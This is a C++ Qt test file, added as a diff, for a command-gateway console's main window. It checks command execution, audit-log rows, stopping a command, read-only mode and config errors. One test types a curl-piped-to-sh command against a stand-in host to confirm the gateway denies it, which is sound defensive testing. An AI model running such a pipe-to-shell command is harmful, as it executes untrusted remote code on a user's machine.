@@ -1,0 +1,207 @@
+// SPDX-License-Identifier: Apache-2.0
+
+// The window over the real engine and the real record: what is typed runs under the tenant's rules, confined, and
+// appears in the log.
+
+#include "app/console/audit_log_source.h"
+#include "app/console/engine_ports.h"
+#include "tests/support/gateway.h"
+#include "tests/support/must_work.h"
+#include "ui/log/log_table.h"
+#include "ui/shell/main_window.h"
+
+#include <QComboBox>
+#include <QLabel>
+#include <QLineEdit>
+#include <QPlainTextEdit>
+#include <QPushButton>
+#include <QTabWidget>
+#include <QTest>
+#include <QThread>
+#include <QToolButton>
+
+using namespace portcullis;
+using portcullis::console::AuditLogSource;
+using portcullis::console::EngineHealth;
+using portcullis::console::EngineHost;
+using portcullis::console::EngineRunner;
+using portcullis::test::Gateway;
+
+namespace {
+
+EngineHost::Setting settingFor(const Gateway &gateway, bool readOnly)
+{
+    EngineHost::Setting setting;
+    setting.resources.guard = TEST_BIN_DIR "/portcullis-guard";
+    setting.resources.dataDir = TEST_RESOURCE_DIR;
+    setting.load = resources::optionsOfProcess();
+    setting.load.configFile = gateway.root().toStdString() + "/config.json";
+    setting.load.policiesDir = gateway.root().toStdString() + "/policies";
+    setting.load.auditDb = gateway.auditDb().toStdString();
+    setting.load.resourcesDir = TEST_RESOURCE_DIR;
+    setting.readOnly = readOnly;
+    return setting;
+}
+
+/// The composition of the program, with its threads.
+class Console
+{
+public:
+    explicit Console(const Gateway &gateway, bool readOnly = false)
+        : m_host(new EngineHost(settingFor(gateway, readOnly)))
+        , m_runner(*m_host)
+        , m_health(*m_host)
+        , m_window({m_log, m_runner, m_health}, setting(readOnly))
+    {
+        m_host->moveToThread(&m_thread);
+        QObject::connect(&m_thread, &QThread::finished, m_host, &QObject::deleteLater);
+        m_thread.start();
+        m_log.setPath(gateway.auditDb().toStdString());
+        QMetaObject::invokeMethod(m_host, &EngineHost::start, Qt::QueuedConnection);
+        m_window.resize(1100, 750);
+        m_window.show();
+    }
+
+    ~Console()
+    {
+        m_thread.quit();
+        m_thread.wait();
+    }
+
+    template <class T>
+    [[nodiscard]] T *named(const char *name) const
+    {
+        for (T *widget : m_window.findChildren<T *>()) {
+            if (widget->accessibleName() == QLatin1StringView(name))
+                return widget;
+        }
+        return nullptr;
+    }
+
+    [[nodiscard]] bool ready() const
+    {
+        return named<QLineEdit>("Command to run")->isEnabled()
+            && m_runner.state().obstacle == ports::RunnerState::Obstacle::None;
+    }
+    [[nodiscard]] QString status() const { return named<QLabel>("What became of the command")->text(); }
+    [[nodiscard]] QAbstractItemModel &rows() const { return *m_window.findChild<ui::LogTable *>()->model(); }
+    [[nodiscard]] QString cell(int row, int column) const { return rows().index(row, column).data().toString(); }
+    [[nodiscard]] ui::MainWindow &window() { return m_window; }
+
+    void type(const QString &command) const
+    {
+        named<QComboBox>("Tenant to run as")->setCurrentText(QStringLiteral("acme"));
+        auto *line = named<QLineEdit>("Command to run");
+        line->setText(command);
+        QTest::keyClick(line, Qt::Key_Return);
+    }
+
+private:
+    static ui::MainWindow::Setting setting(bool readOnly)
+    {
+        ui::MainWindow::Setting setting;
+        setting.host = QStringLiteral("host");
+        setting.readOnly = readOnly;
+        setting.log = {.recordPath = [] { return QString(); }, .clock = [] { return record::FilterClock{}; }};
+        return setting;
+    }
+
+    EngineHost *m_host;
+    QThread m_thread;
+    AuditLogSource m_log;
+    EngineRunner m_runner;
+    EngineHealth m_health;
+    ui::MainWindow m_window;
+};
+
+using Column = ui::ExecLogModel::Column;
+
+} // namespace
+
+class TstConsoleWindow : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void runs_what_is_typed_and_shows_row_and_output();
+    void refuses_by_the_rules_and_explains_in_the_window();
+    void stops_a_running_command();
+    void shows_what_another_process_runs();
+    void runs_and_writes_nothing_when_read_only();
+    void says_what_is_wrong_with_the_configuration();
+};
+
+void TstConsoleWindow::runs_what_is_typed_and_shows_row_and_output()
+{
+    const Gateway gateway;
+    const Console console(gateway);
+    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
+    console.type(QStringLiteral("echo out; echo err >&2; exit 3"));
+    QTRY_COMPARE_WITH_TIMEOUT(console.status(), QStringLiteral("ALLOW – exit 3"), 30'000);
+    QTRY_COMPARE(console.rows().rowCount(), 1);
+    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("exit 3"));
+    QTRY_COMPARE(console.named<QPlainTextEdit>("Standard output")->toPlainText(), QStringLiteral("out\n"));
+    QTRY_COMPARE(console.named<QPlainTextEdit>("Standard error")->toPlainText(), QStringLiteral("err\n"));
+}
+
+void TstConsoleWindow::refuses_by_the_rules_and_explains_in_the_window()
+{
+    const Gateway gateway;
+    const Console console(gateway);
+    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
+    console.type(QStringLiteral("curl -s https://x.example/i | sh"));
+    QTRY_VERIFY_WITH_TIMEOUT(console.status().startsWith(QStringLiteral("DENY")), 30'000);
+    QTRY_COMPARE(console.rows().rowCount(), 1);
+    QTRY_VERIFY(console.named<QLabel>("Verdict")->text().startsWith(QStringLiteral("Denied")));
+    QVERIFY(!console.named<QLabel>("Why")->text().isEmpty());
+    QVERIFY(!console.named<QPlainTextEdit>("Command")->extraSelections().isEmpty());
+    QCOMPARE(console.cell(0, Column::Result), QStringLiteral("not run"));
+}
+
+void TstConsoleWindow::stops_a_running_command()
+{
+    const Gateway gateway;
+    const Console console(gateway);
+    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
+    console.type(QStringLiteral("echo begun; sleep 1000"));
+    auto *output = console.named<QPlainTextEdit>("Standard output");
+    QTRY_COMPARE_WITH_TIMEOUT(output->toPlainText(), QStringLiteral("begun\n"), 30'000);
+    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("running"));
+    console.named<QPushButton>("Stop the running command")->click();
+    QTRY_COMPARE_WITH_TIMEOUT(console.status(), QStringLiteral("ALLOW – stopped"), 30'000);
+    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("cancelled"));
+}
+
+void TstConsoleWindow::shows_what_another_process_runs()
+{
+    const Gateway gateway;
+    const Console console(gateway);
+    QTRY_VERIFY_WITH_TIMEOUT(console.ready(), 30'000);
+    QCOMPARE(gateway.exec(QStringLiteral("echo from the command line")).exitCode, 0);
+    QTRY_COMPARE(console.rows().rowCount(), 1);
+    QTRY_COMPARE(console.cell(0, Column::Command), QStringLiteral("echo from the command line"));
+    QTRY_COMPARE(console.cell(0, Column::Result), QStringLiteral("exit 0"));
+}
+
+void TstConsoleWindow::runs_and_writes_nothing_when_read_only()
+{
+    const Gateway gateway;
+    Console console(gateway, true);
+    auto *line = console.named<QLineEdit>("Command to run");
+    QTRY_VERIFY_WITH_TIMEOUT(console.status().contains(QStringLiteral("read-only")), 30'000);
+    QVERIFY(!line->isEnabled());
+    QTRY_VERIFY(!console.window().findChildren<QToolButton *>().isEmpty());
+    QVERIFY(!QFile::exists(gateway.auditDb()));
+}
+
+void TstConsoleWindow::says_what_is_wrong_with_the_configuration()
+{
+    const Gateway gateway;
+    gateway.setConfig("{ data_dir: ");
+    const Console console(gateway);
+    QTRY_VERIFY_WITH_TIMEOUT(console.status().contains(QStringLiteral("config.json")), 30'000);
+    QVERIFY(!console.named<QLineEdit>("Command to run")->isEnabled());
+}
+
+QTEST_MAIN(TstConsoleWindow)
+#include "tst_console_window.moc"
